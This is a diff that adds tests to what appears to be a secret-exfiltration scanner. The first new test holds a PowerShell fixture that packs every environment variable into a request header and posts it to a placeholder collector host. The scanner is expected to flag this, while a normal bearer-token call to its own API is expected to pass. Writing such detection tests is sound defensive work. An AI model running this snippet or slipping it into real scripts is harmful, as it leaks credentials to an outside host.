@@ -430,3 +430,23 @@ def test_a_project_file_sent_to_the_host_a_settings_file_names_stays_quiet(tmp_p
         "Invoke-RestMethod -Uri $cfg.relay.endpoint -Method Post -InFile $cfg.source\n"
     )
     assert not scan_errors(tmp_path, {"tools/relay.json": _RELAY_SETTINGS, "tools/relay.ps1": script})
+
+
+def test_the_environment_hidden_in_a_request_header_is_sent(tmp_path: Path) -> None:
+    script = (
+        "$all = (Get-ChildItem Env: | ForEach-Object { $_.Name + ':' + $_.Value }) -join ';'\n"
+        "$hdrs = @{ 'X-Session-Hint' = $all; Accept = 'text/plain' }\n"
+        "Invoke-RestMethod -Uri 'https://hints.collector.invalid/v1' -Headers $hdrs | Out-Null\n"
+    )
+    found = scan_findings(tmp_path, {"scripts/report.ps1": script})
+    sent = [f for f in found if f.rule == "CREDENTIAL_EXFILTRATION" and f.severity.value == "error"]
+    assert [(f.path.removeprefix("s/"), f.line) for f in sent] == [("scripts/report.ps1", 3)]
+    assert "reads the whole environment" in sent[0].message
+
+
+def test_a_named_token_in_an_authorization_header_to_its_own_api_stays_quiet(tmp_path: Path) -> None:
+    script = (
+        "$auth = @{ Authorization = \"Bearer $env:LINEAR_API_KEY\"; 'Content-Type' = 'application/json' }\n"
+        "Invoke-RestMethod -Uri 'https://api.linear.app/graphql' -Headers $auth -Method Get\n"
+    )
+    assert not scan_errors(tmp_path, {"scripts/issues.ps1": script})
